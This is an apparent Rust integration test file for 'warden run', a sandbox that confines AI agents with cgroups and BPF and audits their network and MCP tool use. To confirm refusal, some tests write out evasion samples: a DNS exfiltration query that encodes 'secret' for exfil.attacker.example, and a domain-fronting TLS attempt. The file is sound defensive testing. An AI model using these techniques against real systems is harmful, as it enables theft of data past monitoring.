//! `warden run` for real: a fabric with confinement on, agents started under it in their own
//! cgroup with the kernel's BPF programs attached, a peer on another host (a network namespace
//! joined by a veth pair), and the official MCP Python SDK as the confined agent. Needs root and
//! a kernel with cgroup v2 and BPF (CI has both); without them these tests fail saying so.

mod common;

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use common::mcp::{call, peers, python_server, recorded, refused};
use common::{Fabric, Reaped, free_port, python3};
use serde_json::{Value, json};

/// The agent's policy: some demo tools, and egress only to the peer host's one port and to
/// `localhost` by name (whose address is loopback, which no rule here allows).
fn policy(peer: &str, port: u16) -> String {
    format!(
        "apiVersion: warden.dev/v1alpha1
kind: AgentPolicy
metadata: {{name: runner, namespace: demo}}
spec:
  selector: {{matchLabels: {{app: runner}}}}
  mcp:
    - {{server: demo, tools: [echo, add]}}
    - server: demo
      tools: [delete_records]
      when: context.args.table == \"scratch\"
  egress:
    - {{cidrs: ['{peer}/32'], ports: [{port}]}}
    - {{hosts: [localhost], ports: [443]}}
---
apiVersion: warden.dev/v1alpha1
kind: ToolCatalog
metadata: {{name: runner-tools}}
spec:
  servers:
    - name: demo
      tools:
        - {{name: delete_records, inputSchema: {{type: object, properties: {{table: {{type: string}}}}}}}}
"
    )
}

/// A host on the private test network: a network namespace joined to this one by a veth pair,
/// with a TCP server on it that greets whoever connects.
struct PeerHost {
    namespace: String,
    link: String,
    address: String,
    port: u16,
    _server: Reaped,
}

impl PeerHost {
    fn start() -> Self {
        // Tests run side by side: each its own namespace, link and /30.
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed) % 60;
        let subnet = std::process::id() % 250;
        let namespace = format!("wdn-peer-{}-{n}", std::process::id());
        let (link, inside) = (format!("wdn{subnet}x{n}a"), format!("wdn{subnet}x{n}b"));
        let (host, address) = (
            format!("10.213.{subnet}.{}", 4 * n + 1),
            format!("10.213.{subnet}.{}", 4 * n + 2),
        );
        let ip = |args: &[&str]| {
            let out = Command::new("ip")
                .args(args)
                .output()
                .expect("iproute2 (ip) runs");
            assert!(
                out.status.success(),
                "ip {}: {} (these tests need root to make network namespaces)",
                args.join(" "),
                String::from_utf8_lossy(&out.stderr)
            );
        };
        let _ = Command::new("ip")
            .args(["netns", "del", &namespace])
            .output();
        let _ = Command::new("ip").args(["link", "del", &link]).output();
        ip(&["netns", "add", &namespace]);
        ip(&[
            "link", "add", &link, "type", "veth", "peer", "name", &inside,
        ]);
        ip(&["link", "set", &inside, "netns", &namespace]);
        ip(&["addr", "add", &format!("{host}/30"), "dev", &link]);
        ip(&["link", "set", &link, "up"]);
        let inside_ip = |args: &[&str]| {
            let mut full = vec!["netns", "exec", &namespace, "ip"];
            full.extend_from_slice(args);
            ip(&full);
        };
        inside_ip(&["addr", "add", &format!("{address}/30"), "dev", &inside]);
        inside_ip(&["link", "set", &inside, "up"]);
        inside_ip(&["link", "set", "lo", "up"]);
        let port = free_port();
        let server = Reaped(
            Command::new("ip")
                .args(["netns", "exec", &namespace, "python3", "-c"])
                .arg(format!(
                    "import socket\ns=socket.create_server(('{address}', {port}))\nwhile True:\n  c,_=s.accept(); c.recv(4096); c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 19\\r\\nConnection: close\\r\\n\\r\\nhello from the peer'); c.close()"
                ))
                .spawn()
                .expect("a server on the peer host"),
        );
        // Reachable from here (outside any sandbox) before the tests use it.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while std::net::TcpStream::connect((address.as_str(), port)).is_err() {
            assert!(
                std::time::Instant::now() < deadline,
                "the peer host never listened"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        Self {
            namespace,
            link,
            address,
            port,
            _server: server,
        }
    }
}

impl Drop for PeerHost {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["link", "del", &self.link])
            .output();
        let _ = Command::new("ip")
            .args(["netns", "del", &self.namespace])
            .output();
    }
}

/// A fabric with confinement on, an MCP server behind it, a peer host, and the agent
/// `demo/runner` registered.
struct Site {
    fabric: Fabric,
    socket: PathBuf,
    mcp_port: u16,
    peer: PeerHost,
    _mcp: Reaped,
}

fn site() -> Site {
    let peer = PeerHost::start();
    let mcp_port = free_port();
    let mcp = python_server(mcp_port, &[]);
    let socket_dir = tempfile::tempdir().expect("a temporary directory");
    let socket = socket_dir.keep().join("sandbox.sock");
    let sandbox = socket.clone();
    let fabric = Fabric::start(
        &policy(&peer.address, peer.port),
        move |_| {
            format!(
                "  upstreams:\n    - {{name: demo, kind: mcp, url: 'http://127.0.0.1:{mcp_port}/mcp'}}\n  sandbox:\n    socket: {}\n",
                sandbox.display()
            )
        },
        &[],
    );
    // The gateway accepts agents before its `warden run` socket is up.
    common::eventually("the gateway's warden run socket", || socket.exists());
    let out = fabric.cli(
        &fabric.token,
        &[
            "agent",
            "register",
            "demo/runner",
            "--label",
            "app=runner",
            "--right",
            "mcp.*=demo/*",
            "--right",
            "egress.connect=*",
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    Site {
        fabric,
        socket,
        mcp_port,
        peer,
        _mcp: mcp,
    }
}

impl Site {
    /// Runs `command` under `warden run` as demo/runner, as the user nobody.
    fn run(&self, command: &[&str]) -> Output {
        let out = self.run_command(command).output().expect("warden run runs");
        assert!(
            !String::from_utf8_lossy(&out.stderr).contains("refused to confine"),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    fn run_command(&self, command: &[&str]) -> Command {
        self.run_with(&[], command)
    }

    /// `warden run` with `options` before the agent's command.
    fn run_with(&self, options: &[&str], command: &[&str]) -> Command {
        let mut run = Command::new(env!("CARGO_BIN_EXE_warden"));
        run.args(["run", "--agent", "demo/runner"])
            .args(options)
            .arg("--")
            .args(command)
            .env(
                "WARDEN_CONTROL_URL",
                format!("http://127.0.0.1:{}", self.fabric.control_port),
            )
            .env("WARDEN_TOKEN", &self.fabric.token)
            .env("WARDEN_SANDBOX_SOCKET", &self.socket)
            .stdin(Stdio::null());
        run
    }

    /// Runs Python code under `warden run`; its standard output.
    fn python(&self, code: &str) -> String {
        let out = self.run(&["python3", "-c", code]);
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn audit(&self) -> PathBuf {
        self.fabric.dir.path().join("data/audit")
    }

    /// The record of a decision on `target` (host or address) and port, once it is written.
    fn record_for(&self, outcome: &str, host: &str, port: u16) -> Value {
        recorded(&self.audit(), |r| {
            r["outcome"] == outcome
                && r["action"] == "egress.connect"
                && r["target"]["host"] == host
                && r["target"]["port"] == port
        })
    }
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// The process a record names ran `executable`.
fn by(record: &Value, executable: &str) {
    let process = &record["process"];
    assert!(
        process["executable"]
            .as_str()
            .is_some_and(|e| e.contains(executable)),
        "{record}"
    );
    assert!(
        process["pid"].as_u64().is_some_and(|pid| pid > 0),
        "{record}"
    );
    assert_eq!(
        process["commandSha256"].as_str().map(str::len),
        Some(64),
        "{record}"
    );
}

#[test]
fn direct_connections_are_refused_and_recorded_with_the_process() {
    let site = site();
    // An IPv4 literal, with curl told to use no proxy: the gateway answers, and says why.
    let out = site.run(&[
        "curl",
        "-s",
        "-m",
        "10",
        "--noproxy",
        "*",
        "http://203.0.113.9:8080/x",
    ]);
    let said = text(&out);
    assert!(
        said.contains("denied egress.connect on 203.0.113.9:8080"),
        "{said}"
    );
    by(&site.record_for("deny", "203.0.113.9", 8080), "curl");
    // Python's own sockets: an IPv6 literal, loopback (the control plane, a neighbour service),
    // a forked child. Each is cut without an answer.
    let control = site.fabric.control_port;
    let said = site.python(&format!(
        "import os, socket
def attempt(address):
    family = socket.AF_INET6 if ':' in address[0] else socket.AF_INET
    try:
        s = socket.create_connection(address, timeout=10)
        s.sendall(b'\\x00\\x01 not a protocol')
        print(address[1], 'answered', s.recv(100))
    except OSError as e:
        print(address[1], 'refused', e)
attempt(('2001:db8::9', 9443))
attempt(('127.0.0.1', {control}))
if os.fork() == 0:
    attempt(('198.51.100.4', 7000)); os._exit(0)
os.wait()"
    ));
    for port in [9443, control, 7000] {
        assert!(
            said.contains(&format!("{port} answered b''"))
                || said.contains(&format!("{port} refused")),
            "{said}"
        );
    }
    by(&site.record_for("deny", "2001:db8::9", 9443), "python3");
    by(&site.record_for("deny", "127.0.0.1", control), "python3");
    by(&site.record_for("deny", "198.51.100.4", 7000), "python3");
}

#[test]
fn warden_run_says_what_its_agent_was_refused_and_by_which_process() {
    let site = site();
    // A TLS connection the gateway closes without a word, and a lookup it refuses: the agent
    // sees only a failure; warden run says what was refused, why, and who tried.
    let out = site.run(&[
        "python3",
        "-c",
        "import socket\ntry:\n  socket.create_connection(('192.0.2.77', 443), timeout=10).recv(1)\nexcept OSError: pass\ntry:\n  socket.getaddrinfo('not-allowed.example', 443)\nexcept OSError: pass",
    ]);
    let said = String::from_utf8_lossy(&out.stderr);
    let line = |needle: &str| {
        said.lines()
            .find(|l| l.starts_with("warden run: refused ") && l.contains(needle))
            .unwrap_or_else(|| panic!("no refusal of {needle} said: {said}"))
            .to_owned()
    };
    let connect = line("192.0.2.77");
    assert!(
        connect.starts_with("warden run: refused egress.connect 192.0.2.77:443 ("),
        "{connect}"
    );
    assert!(connect.contains("python3"), "{connect}");
    assert!(connect.contains("; decision "), "{connect}");
    assert!(
        line("not-allowed.example").starts_with("warden run: refused dns.lookup"),
        "{said}"
    );
    // Said once, however often the resolver asked.
    assert_eq!(
        said.matches("refused dns.lookup not-allowed.example")
            .count(),
        1,
        "{said}"
    );
}

#[test]
fn raw_sockets_and_udp_are_refused_and_recorded() {
    let site = site();
    let said = site.python(
        "import socket
for name, make in [('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                   ('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('9.9.9.9', 443)))]:
    try:
        make(); print(name, 'allowed')
    except OSError as e:
        print(name, 'refused', e.errno)",
    );
    assert!(said.contains("raw refused"), "{said}");
    assert!(said.contains("udp refused 1"), "{said}");
    let raw = recorded(&site.audit(), |r| r["action"] == "socket");
    assert_eq!(raw["outcome"], "deny", "{raw}");
    assert_eq!(raw["target"]["type"], 3, "{raw}");
    by(&raw, "python3");
    // UDP other than DNS (here QUIC's port) goes nowhere.
    let udp = site.record_for("deny", "9.9.9.9", 443);
    assert_eq!(udp["target"]["protocol"], "udp", "{udp}");
    by(&udp, "python3");
}

#[test]
fn allowed_egress_reaches_another_host_and_nothing_else_there_does() {
    let site = site();
    let (peer, port) = (&site.peer.address, site.peer.port);
    let out = site.run(&["curl", "-s", "-m", "10", &format!("http://{peer}:{port}/")]);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hello from the peer",
        "{}",
        text(&out)
    );
    by(&site.record_for("allow", peer, port), "curl");
    // The same host on a port policy does not name.
    let other = port.wrapping_add(1).max(1024);
    let out = site.run(&["curl", "-s", "-m", "10", &format!("http://{peer}:{other}/")]);
    assert!(text(&out).contains("denied"), "{}", text(&out));
    site.record_for("deny", peer, other);
}

#[test]
fn the_agent_holds_no_credential() {
    let site = site();
    let token_file = site.fabric.dir.path().join("token");
    let said = site.python(&format!(
        "import os
print('ENV', sorted(k for k in os.environ if k.upper().startswith('WARDEN')))
print('SECRETS', [k for k, v in os.environ.items() if 'wdn_' in v or '{token}' in v])
try:
    open('{}').read(); print('TOKEN readable')
except OSError as e:
    print('TOKEN', e.errno)
print('UID', os.getuid())",
        token_file.display(),
        token = site.fabric.token,
    ));
    assert!(said.contains("ENV []"), "{said}");
    assert!(said.contains("SECRETS []"), "{said}");
    assert!(said.contains("TOKEN 13"), "{said}");
    assert!(!said.contains("UID 0"), "{said}");
}

#[test]
fn the_official_mcp_client_under_warden_run_is_decided_on_tools_and_arguments() {
    let site = site();
    let calls = json!([
        {"list": true},
        call("echo", json!({"text": "through the kernel"})),
        call("delete_records", json!({"table": "scratch"})),
        call("delete_records", json!({"table": "customers"})),
    ]);
    // The client dials the MCP server's own address with no credential; the kernel hands the
    // connection to the gateway, which serves it as upstream `demo`.
    let script = peers().join("mcp_calls.py");
    let out = site.run(&[
        &agent_python(),
        script.to_str().expect("path"),
        &format!("http://127.0.0.1:{}/mcp", site.mcp_port),
        "-",
        &calls.to_string(),
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let outcomes: Vec<Value> = serde_json::from_str(stdout.lines().last().unwrap_or_default())
        .unwrap_or_else(|_| panic!("{}", text(&out)));
    let tools = outcomes[0]["tools"].as_array().expect("a tool list");
    assert!(tools.contains(&json!("echo")), "{outcomes:?}");
    assert!(!tools.contains(&json!("read_secrets")), "{outcomes:?}");
    assert!(
        outcomes[1]["ok"]
            .as_str()
            .is_some_and(|t| t.contains("through the kernel")),
        "{outcomes:?}"
    );
    assert!(outcomes[2]["ok"].is_string(), "{outcomes:?}");
    let (data, message) = refused(&outcomes[3]);
    assert_eq!(data["outcome"], "deny", "{message}");
    let record = recorded(&site.audit(), |r| {
        r["action"] == "mcp.tools/call" && r["arguments"]["table"] == "customers"
    });
    assert_eq!(record["outcome"], "deny", "{record}");
    by(&record, "python3");
    assert!(
        record["agent"]
            .as_str()
            .is_some_and(|a| a.contains("/tenant/demo/agent/runner/run-")),
        "{record}"
    );
}

/// The interpreter with the official SDKs, as an absolute path the agent (user nobody) can run.
/// Where it lives under a home the agent may not enter (pyenv in /root), the directories on the
/// way are made searchable (not readable) so it can.
fn agent_python() -> String {
    use std::os::unix::fs::PermissionsExt as _;
    let out = python3()
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3 runs");
    let interpreter = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
    let real = std::fs::canonicalize(&interpreter).expect("the interpreter exists");
    for directory in real.ancestors().skip(1) {
        let Ok(metadata) = std::fs::metadata(directory) else {
            continue;
        };
        let mode = metadata.permissions().mode();
        if mode & 0o001 == 0 {
            eprintln!(
                "letting other users search {} to reach {}",
                directory.display(),
                real.display()
            );
            std::fs::set_permissions(directory, std::fs::Permissions::from_mode(mode | 0o001))
                .expect("chmod o+x");
        }
    }
    interpreter.display().to_string()
}

/// A TLS connection naming `sni`, to `address`; what the agent saw.
fn tls_attempt(site: &Site, sni: &str, address: &str) -> String {
    site.python(&format!(
        "import socket, ssl
context = ssl.create_default_context()
try:
    raw = socket.create_connection(('{address}', 443), timeout=10)
    context.wrap_socket(raw, server_hostname='{sni}')
    print('handshake completed')
except (OSError, ssl.SSLError) as e:
    print('cut', type(e).__name__)"
    ))
}

#[test]
fn a_name_policy_allows_is_refused_where_it_resolves_to_a_private_address() {
    let site = site();
    // `localhost` is allowed by name, but it is loopback: the address needs its own rule.
    let said = tls_attempt(&site, "localhost", "127.0.0.1");
    assert!(said.contains("cut"), "{said}");
    let record = site.record_for("deny", "127.0.0.1", 443);
    assert_eq!(record["target"]["ip"], "127.0.0.1", "{record}");
    by(&record, "python3");
}

#[test]
fn an_allowed_sni_to_another_address_is_refused() {
    let site = site();
    // Domain fronting: a name policy allows, sent to an address that name does not have.
    let said = tls_attempt(&site, "localhost", "203.0.113.50");
    assert!(said.contains("cut"), "{said}");
    let record = recorded(&site.audit(), |r| {
        r["action"] == "egress.connect" && r["target"]["ip"] == "203.0.113.50"
    });
    assert_eq!(record["outcome"], "deny", "{record}");
    assert_eq!(record["reason"], "not-forwarded", "{record}");
    assert_eq!(record["target"]["host"], "localhost", "{record}");
}

#[test]
fn warden_run_without_a_gateway_says_what_to_do() {
    let site = site();
    let mut command = site.run_command(&["true"]);
    command.env("WARDEN_SANDBOX_SOCKET", "/nonexistent/sandbox.sock");
    let out = command.output().expect("warden run runs");
    assert!(!out.status.success());
    assert!(
        text(&out).contains("cannot reach the local gateway"),
        "{}",
        text(&out)
    );
    // Root as the agent is refused before anything starts.
    let out = site
        .run_with(&["--user", "root"], &["true"])
        .output()
        .expect("warden run runs");
    assert!(!out.status.success());
    assert!(text(&out).contains("may not run as root"), "{}", text(&out));
}

#[test]
fn lookups_are_answered_only_for_names_policy_lets_the_agent_reach() {
    let site = site();
    // A resolver's query, sent to a public DNS server: the kernel hands it to the instance's
    // responder, and the answer comes back as if from the server asked.
    let said = site.python(
        "import socket, struct
def query(name):
    packet = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    packet += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'
    packet += struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(packet, ('8.8.8.8', 53))
    data, source = s.recvfrom(4096)
    rcode, answers = struct.unpack('>H', data[2:4])[0] & 0xf, struct.unpack('>H', data[6:8])[0]
    print(name, 'rcode', rcode, 'answers', answers, 'from', source, 'loopback', b'\\x7f\\x00\\x00\\x01' in data[12:])
query('localhost')
query('c2VjcmV0.exfil.attacker.example')",
    );
    assert!(
        said.contains("localhost rcode 0 answers 1 from ('8.8.8.8', 53) loopback True"),
        "{said}"
    );
    assert!(
        said.contains("c2VjcmV0.exfil.attacker.example rcode 5 answers 0"),
        "{said}"
    );
    let refused = recorded(&site.audit(), |r| r["action"] == "dns.lookup");
    assert_eq!(refused["outcome"], "deny", "{refused}");
    assert_eq!(
        refused["target"]["name"], "c2vjcmv0.exfil.attacker.example",
        "{refused}"
    );
}
